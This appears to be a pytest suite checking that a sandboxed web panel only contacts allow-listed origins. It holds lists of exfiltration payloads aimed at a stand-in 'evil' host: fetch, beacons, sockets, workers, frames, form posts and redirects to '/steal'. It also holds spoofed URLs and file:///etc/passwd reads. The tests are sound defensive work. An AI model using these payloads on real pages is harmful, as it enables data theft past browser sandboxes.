"""A page from outside: only of listed origins, whatever it tries; how it stands is said, and where to allow it.

Two sites on this machine: `good` is on the list, `evil` is not, and must never be asked for anything.
"""

from __future__ import annotations

import contextlib
import os
import signal
import socket
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from functools import partial
from pathlib import Path
from typing import Any

import psutil
import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication

from console.api import Freshness
from tests.certificates import SiteCerts
from tests.outside_host import OutsideHost, end_panel
from tests.sites import html, script, site, to
from widgets.web import panel as panel_module
from widgets.web.panel import Standing, WebPanel
from widgets.web.spec import WebSettings


class Room:
    """A host, its tile, a good and an evil site."""

    def __init__(self, folder: Path, stack: ExitStack) -> None:
        self.folder = folder
        self.good, self.evil = stack.enter_context(site()), stack.enter_context(site())
        self.host = OutsideHost(folder, language="en")
        self.panel: WebPanel | None = None
        self.allow(self.good.at())

    def allow(self, *origins: str) -> None:
        names = ", ".join(f'"{origin.rstrip("/")}"' for origin in origins)
        self.host.allow(f"web = [{names}]\n")

    def show(self, url: str, **settings: Any) -> WebPanel:
        panel = self.panel = WebPanel(self.host, WebSettings(url=url, **settings))
        panel.resize(480, 320)
        panel.update_frame(self.host.frame(seeked=True))
        panel.show()
        return panel

    @property
    def tile(self) -> WebPanel:
        assert self.panel is not None
        return self.panel

    def until(self, condition: Callable[[], bool], what: str = "") -> None:
        self.host.until(self.tile, condition, what)

    def until_stands(self, standing: Standing) -> None:
        self.until(lambda: self.tile.standing is standing, f"never {standing}, but {self.tile.standing}: {self.said()}")

    def said(self) -> str:
        said = self.tile.card.said
        return "" if self.tile.card.isHidden() else " | ".join((said.head, *said.lines))

    def good_was_asked(self, path: str, times: int) -> bool:
        return self.good.asked.count(path) >= times

    def freshness(self) -> Freshness:
        return self.host.headers[-1].freshness

    def js(self, code: str) -> Any:
        """What a script in the page gives."""
        given: list[Any] = []
        view = self.tile.view
        assert view is not None
        view.page().runJavaScript(code, lambda value: given.append(value))
        self.until(lambda: bool(given), "the page never answered")
        return given[0]

    def close(self) -> None:
        end_panel(self.panel)
        self.host.close()


@pytest.fixture
def room(qapp: QApplication, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Room]:
    monkeypatch.setattr(panel_module, "RETRY_S", (0.2,))
    monkeypatch.setattr(panel_module, "LIST_S", 0.05)
    with ExitStack() as stack:
        made = Room(tmp_path, stack)
        with contextlib.closing(made):
            yield made


def test_a_listed_page_is_shown_with_its_age_and_where_it_is_from(room: Room) -> None:
    room.good.pages["/"] = html("<style>body{background:#102030}</style>")
    room.show(room.good.at())
    room.until_stands(Standing.SHOWN)
    room.until(lambda: room.tile.grab().toImage().pixelColor(200, 150).name() == "#102030")
    header = room.host.headers[-1]
    assert header.freshness is Freshness.LIVE
    assert header.data_ns > 0
    assert header.scope == "127.0.0.1"
    assert "not encrypted" in header.marks


def test_nothing_is_allowed_by_default_and_the_card_says_where_to_allow_it(room: Room) -> None:
    (room.folder / "outside.toml").unlink()
    room.show(room.evil.at("/a?secret=1"))
    room.until(lambda: "not allowed and was not opened" in room.said())
    assert f"Found: {room.evil.at('/a')}" in room.said()
    assert "secret" not in room.said()
    assert str(room.folder / "outside.toml") in room.said()
    assert "outside-sources.md" in room.said()
    assert not room.evil.asked
    room.evil.pages["/a"] = html("now it may")
    room.allow(room.evil.at())
    room.until_stands(Standing.SHOWN)


def test_a_list_with_a_mistake_allows_nothing_and_says_which(room: Room) -> None:
    room.host.allow('web = ["https://气象.example"]')
    room.show(room.good.at())
    room.until(lambda: "allows nothing" in room.said())
    assert "xn--" in room.said()
    assert not room.good.asked


REFUSED_ADDRESSES = [
    "http://127.0.0.1:{good}@127.0.0.1:{evil}/",
    "http://user:word@127.0.0.1:{good}/",
    "http://127.0.0.1:{good}\\@127.0.0.1:{evil}/",
    "http://localhost:{good}/",
    "http://127.0.0.1.:{good}/",
    "http://[::1]:{good}/",
    "https://127.0.0.1:{good}/",
    "file:///etc/passwd",
    "app://res/map/index.html",
    "data:text/html,<h1>hello",
    "javascript:fetch('http://127.0.0.1:{evil}/')",
    "chrome://gpu",
    "view-source:http://127.0.0.1:{good}/",
    "about:blank",
    "qrc:/x.html",
]


def test_addresses_that_only_look_listed_are_not_opened(room: Room) -> None:
    panel = room.show("")
    room.until(lambda: "No page is set" in room.said())
    for address in REFUSED_ADDRESSES:
        url = address.format(good=room.good.port, evil=room.evil.port)
        panel.configure(WebSettings(url=url))
        assert panel.standing is Standing.WAITING, url
        assert "not allowed" in room.said() or "cannot be used" in room.said(), url
        assert panel.view is None, url
        assert "user:word" not in room.said()
    assert not room.good.asked
    assert not room.evil.asked


@pytest.mark.parametrize("status", [302, 308])
def test_a_chain_of_redirects_ends_where_it_leaves_the_list(room: Room, status: int) -> None:
    room.good.pages["/"] = to("/two", status)
    room.good.pages["/two"] = to(room.good.at("/three"), status)
    room.good.pages["/three"] = to(room.evil.at("/steal"), status)
    room.show(room.good.at())
    room.until_stands(Standing.REFUSED)
    assert room.evil.at("/steal") in room.said()
    assert not room.evil.asked


WAYS_OUT = {
    "image": "new Image().src = '{evil}/image'",
    "fetch": "fetch('{evil}/fetch', {{mode: 'no-cors'}}).catch(() => 0)",
    "beacon": "navigator.sendBeacon('{evil}/beacon', 'x')",
    "redirected fetch": "fetch('/away', {{mode: 'no-cors'}}).catch(() => 0)",
    "redirected image": "new Image().src = '/away'",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {{src: '{evil}/frame'}}))",
    "srcdoc frame": "document.body.append(Object.assign(document.createElement('iframe'),"
    " {{srcdoc: '<img src={evil}/srcdoc>'}}))",
    "data frame": "document.body.append(Object.assign(document.createElement('iframe'),"
    " {{src: 'data:text/html,<img src={evil}/data>'}}))",
    "blob frame": "document.body.append(Object.assign(document.createElement('iframe'),"
    " {{src: URL.createObjectURL(new Blob(['<img src={evil}/blob>'], {{type: 'text/html'}}))}}))",
    "redirected frame": "document.body.append(Object.assign(document.createElement('iframe'), {{src: '/away'}}))",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('{evil}/worker', {{mode: 'no-cors'}})\"])))",
    "shared worker": "new SharedWorker(URL.createObjectURL("
    "new Blob([\"fetch('{evil}/shared', {{mode: 'no-cors'}})\"])))",
    "socket": "new WebSocket('{evil}/socket'.replace('http', 'ws'))",
    "events": "new EventSource('{evil}/events')",
    "style": "document.head.append(Object.assign(document.createElement('link'),"
    " {{rel: 'stylesheet', href: '{evil}/style'}}))",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'),"
    " {{rel: 'prefetch', href: '{evil}/prefetch'}}))",
    "font": "new FontFace('x', 'url({evil}/font)').load().catch(() => 0)",
    "form in a frame": "document.body.insertAdjacentHTML('beforeend',"
    " `<iframe name=f></iframe><form target=f method=post action='{evil}/form'></form>`); document.forms[0].submit()",
    "ping": "document.body.insertAdjacentHTML('beforeend', `<a id=p href='#x' ping='{evil}/ping'>x</a>`);"
    " document.getElementById('p').click()",
    "window": "window.open('{evil}/window')",
    "media": "new Audio('{evil}/audio').load()",
}


def test_no_way_out_of_a_listed_page_reaches_another_site(room: Room) -> None:
    # of what is written in the page itself some is asked for before any script of a page could run
    parts = "<img src=/away><script src=/away></script><link rel=stylesheet href=/away><iframe src=/away></iframe>"
    room.good.pages["/"] = html(f"{parts}<video src=/away></video><script src=/worker></script>")
    room.good.pages["/worker"] = script("new Worker('/work.js'); new Worker('/work.js', {type: 'module'})")
    room.good.pages["/work.js"] = script("fetch('/away', {mode: 'no-cors'}); fetch('/worked')")
    room.good.pages["/away"] = to(room.evil.at("/redirected"))
    room.good.pages["/done"] = html("")
    room.show(room.good.at())
    room.until_stands(Standing.SHOWN)
    evil = room.evil.at("").rstrip("/")
    for way in WAYS_OUT.values():
        room.js(f"try {{ {way.format(evil=evil)} }} catch (e) {{ }} 1")
    # what was asked of the good site after them has come: they had their turn
    for _ in range(3):
        wanted = room.good.asked.count("/done") + 1
        room.js("fetch('/done'); 1")
        room.until(partial(room.good_was_asked, "/done", wanted), "the page's own site is never asked")
    view = room.tile.view
    assert view is not None
    room.until(lambda: view.asking.refused[evil] >= 10, f"only {view.asking.refused}")
    room.until(lambda: room.good.asked.count("/worked") == 2, "workers of the page's own site run")
    assert not room.evil.asked
    assert room.tile.standing is Standing.SHOWN
    room.until(lambda: any("refused" in mark for mark in room.host.headers[-1].marks))


ASTRAY = (
    "location.href = '{evil}/steal'",
    "document.body.innerHTML = `<meta http-equiv=refresh content='0;url={evil}/steal'>`",
    "document.body.innerHTML = `<form method=post action='{evil}/steal'></form>`; document.forms[0].submit()",
    "document.body.innerHTML = `<a href='{evil}/steal' target=_top>x</a>`; document.links[0].click()",
    "location.replace('/away')",
)


def test_a_page_that_goes_elsewhere_is_covered_and_esc_goes_back(room: Room) -> None:
    room.good.pages["/"] = html("here")
    room.good.pages["/away"] = to(room.evil.at("/steal"))
    room.show(room.good.at())
    room.until_stands(Standing.SHOWN)
    for way in ASTRAY:
        room.js(f"{way.format(evil=room.evil.at('').rstrip('/'))}; 1")
        room.until_stands(Standing.REFUSED)
        assert room.evil.at("/steal") in room.said(), way
        QTest.keyClick(room.tile, Qt.Key.Key_Escape)
        assert room.tile.standing is Standing.SHOWN, way
    assert not room.evil.asked


def test_what_requests_do_not_show_is_switched_off(room: Room) -> None:
    frames = "<iframe srcdoc='x'></iframe><iframe src='about:blank'></iframe>"
    room.good.pages["/"] = html(frames)
    room.show(room.good.at())
    room.until_stands(Standing.SHOWN)
    names = "['RTCPeerConnection', 'webkitRTCPeerConnection', 'WebTransport']"
    for window in ("window", "frames[0]", "frames[1]"):
        assert room.js(f"{names}.filter(n => typeof {window}[n] !== 'undefined').join()") == "", window
    assert room.js("typeof navigator.serviceWorker") == "undefined"
    assert room.js("String(window.open('/x'))") == "null"
    assert room.js("[confirm('?'), prompt('?')].join()") == "false,"
    told = room.js(
        "window.told = ''; navigator.geolocation.getCurrentPosition(() => told = 'yes', () => told = 'no'); 1"
    )
    assert told == 1
    room.until(lambda: room.js("told") == "no", "the place of this machine was not refused")


def test_nothing_is_downloaded(room: Room) -> None:
    room.good.pages["/"] = html("<a id=a href='/file'>file</a>")
    room.good.pages["/file"] = (200, {"Content-Disposition": "attachment; filename=x.sh"}, b"echo")
    room.show(room.good.at())
    room.until_stands(Standing.SHOWN)
    room.js("document.getElementById('a').click(); 1")
    view = room.tile.view
    assert view is not None
    room.until(lambda: view.downloads_refused == 1, "the download was not refused")


def test_a_page_that_fails_says_why_and_comes_back_by_itself(room: Room) -> None:
    room.good.pages["/"] = (503, {}, b"later")
    room.show(room.good.at())
    room.until(lambda: "the site answered 503" in room.said())
    assert [button.text() for button in room.tile.card.buttons] == ["Reload"]
    assert room.host.headers[-1].data_ns == 0
    room.good.pages["/"] = html("here again")
    room.until_stands(Standing.SHOWN)
    room.good.pages["/"] = (401, {"WWW-Authenticate": "Basic realm=x"}, b"")
    room.tile.do("web.reload")
    room.until(lambda: "asks for a log-in" in room.said())
    assert "Last loaded" in room.said()
    room.host.language = "zh"
    room.tile.configure(room.tile.settings)
    assert "上次装入" in room.said()
    assert [button.text() for button in room.tile.card.buttons] == ["重新装入"]
    assert room.freshness() is Freshness.DISCONNECTED


def test_a_machine_that_is_not_there_is_said(room: Room) -> None:
    with site() as gone:
        room.allow(gone.at())
    room.show(gone.at())
    room.until(lambda: "cannot be reached" in room.said())


def test_a_page_whose_process_dies_is_a_card_and_loaded_anew(room: Room) -> None:
    room.good.pages["/"] = html("here")
    room.show(room.good.at())
    room.until_stands(Standing.SHOWN)
    view = room.tile.view
    assert view is not None
    os.kill(view.page().renderProcessPid(), signal.SIGKILL)
    room.until(lambda: "process ended" in room.said())
    room.until_stands(Standing.SHOWN)


def test_a_page_that_hangs_is_said_to(room: Room, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(panel_module, "PULSE_S", 0.1)
    monkeypatch.setattr(panel_module, "PULSELESS_S", 1.0)
    room.good.pages["/"] = html("here")
    room.show(room.good.at())
    room.until_stands(Standing.SHOWN)
    view = room.tile.view
    assert view is not None
    process = psutil.Process(view.page().renderProcessPid())
    process.suspend()
    room.until(lambda: "not responding" in room.host.headers[-1].marks)
    assert room.freshness() is Freshness.STALE
    process.resume()
    room.until(lambda: "not responding" not in room.host.headers[-1].marks)


def test_on_a_wall_nothing_reaches_the_page(room: Room) -> None:
    room.good.pages["/"] = html("<input id=i style='position:fixed;inset:0;width:100%;height:100%'>")
    room.host.role = "wall"
    room.show(room.good.at())
    room.until_stands(Standing.SHOWN)
    assert room.tile.childAt(QPoint(100, 100)) is None
    QTest.mouseClick(room.tile, Qt.MouseButton.LeftButton, pos=QPoint(100, 100))
    QTest.keyClicks(room.tile, "abc")
    assert room.js("document.activeElement.id + document.getElementById('i').value") == ""
    assert not room.tile.card.buttons


def test_what_a_page_keeps_ends_with_it(room: Room) -> None:
    room.good.pages["/"] = html("here")
    first = room.show(room.good.at())
    room.until_stands(Standing.SHOWN)
    assert first.view is not None
    assert first.view.profile.isOffTheRecord()
    room.js("document.cookie = 'a=1'; localStorage.a = '1'; 1")
    first.close_panel()
    first.hide()
    first.deleteLater()
    room.show(room.good.at())
    room.until_stands(Standing.SHOWN)
    assert room.js("document.cookie + (localStorage.a || '')") == ""


def test_a_script_of_the_page_has_no_way_into_the_console(room: Room) -> None:
    room.good.pages["/"] = html("<script src=/s.js></script>")
    room.good.pages["/s.js"] = script(
        "window.told = []; for (const u of ['app://res/map/index.html', 'qrc:/x', 'file:///etc/passwd'])"
        " fetch(u).then(() => told.push('in'), () => told.push('no'))"
    )
    room.show(room.good.at())
    room.until_stands(Standing.SHOWN)
    room.until(lambda: room.js("told.join()") == "no,no,no")


def test_the_other_site_is_one_that_a_browser_would_ask(room: Room) -> None:
    """The attacks above hold because of the list: with both on it the same page does reach the other site."""
    room.allow(room.good.at(), room.evil.at())
    room.good.pages["/"] = html("here")
    room.show(room.good.at())
    room.until_stands(Standing.SHOWN)
    room.js(f"{WAYS_OUT['image'].format(evil=room.evil.at('').rstrip('/'))}; 1")
    room.until(lambda: "/image" in room.evil.asked)


def test_a_frame_made_just_now_finds_no_way_out_by_udp(room: Room) -> None:
    """Scripts of ours do not begin in such a frame; the browser's own policy holds."""
    room.good.pages["/"] = html("here")
    room.show(room.good.at())
    room.until_stands(Standing.SHOWN)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as heard:
        heard.bind(("127.0.0.1", 0))
        heard.setblocking(False)
        room.js(
            "const frame = document.createElement('iframe'); document.body.append(frame); window.gathered = '';"
            "window.call = new frame.contentWindow.RTCPeerConnection("
            f"{{iceServers: [{{urls: 'stun:127.0.0.1:{heard.getsockname()[1]}'}}]}});"
            "call.onicegatheringstatechange = () => gathered = call.iceGatheringState;"
            "call.createDataChannel('x'); call.createOffer().then((o) => call.setLocalDescription(o)); 1"
        )
        room.until(lambda: room.js("gathered") == "complete", "it never gave up")
        with pytest.raises(BlockingIOError):
            heard.recv(100)


def test_a_site_whose_certificate_is_not_believed_is_refused_until_its_authority_is_named(
    room: Room, tmp_path: Path
) -> None:
    certs = SiteCerts(tmp_path / "ca")
    with site(certs.server()) as tls:
        tls.pages["/"] = html("here")
        room.allow(tls.at())
        room.show(tls.at())
        room.until(lambda: "certificate is not believed" in room.said())
        assert not tls.asked
        room.host.allow(f'web = ["{tls.at().rstrip("/")}"]\nauthority = ["ca/ca.pem"]\n')
        room.until_stands(Standing.SHOWN)
        assert "not encrypted" not in room.host.headers[-1].marks
